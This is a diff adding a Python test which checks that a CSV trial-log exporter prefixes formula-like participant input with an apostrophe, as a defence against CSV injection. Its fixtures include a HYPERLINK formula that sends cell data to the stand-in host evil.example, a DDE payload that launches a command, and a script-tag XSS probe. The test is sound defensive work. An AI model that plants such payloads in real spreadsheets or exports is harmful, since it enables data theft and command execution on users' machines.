@@ -55,3 +55,19 @@ def test_csv_has_header_and_json_cells():
     rec = dict(zip(parsed[0], parsed[1]))
     assert rec["instruction"] == 'pick "the" cube, please' and rec["points_px"] == "[[1.0,2.0]]"
     assert rec["judgement"] == "" and rec["id"] == "1"
+
+
+def test_csv_cells_are_text_never_formulas():
+    # CSV injection (OWASP "CSV Injection"): a participant types an instruction, the operator opens the
+    # CSV in a spreadsheet, and a cell starting with = + - @ (or tab / CR) would run as a formula.
+    # Such cells get a leading apostrophe; commas, quotes and newlines round-trip through the csv module.
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\t=1+1", "\r=1+1"]
+    plain = 'pick up the "red", cube\nthen stop; <script>alert(1)</script>'
+    rows = [{"id": i + 1, "instruction": s, "raw_answer": s, "agent": "a", "frame_index": -1,
+             "points_px": [[-0.5, 2.0]]} for i, s in enumerate(hostile + [plain])]
+    back = list(csv.DictReader(io.StringIO(trial_log_csv(rows))))
+    assert [r["instruction"] for r in back] == ["'" + s for s in hostile] + [plain]
+    assert [r["raw_answer"] for r in back] == ["'" + s for s in hostile] + [plain]
+    # numbers and JSON cells are left alone (a negative number is data, not a formula)
+    assert back[0]["frame_index"] == "-1" and back[0]["points_px"] == "[[-0.5,2.0]]" and back[0]["id"] == "1"
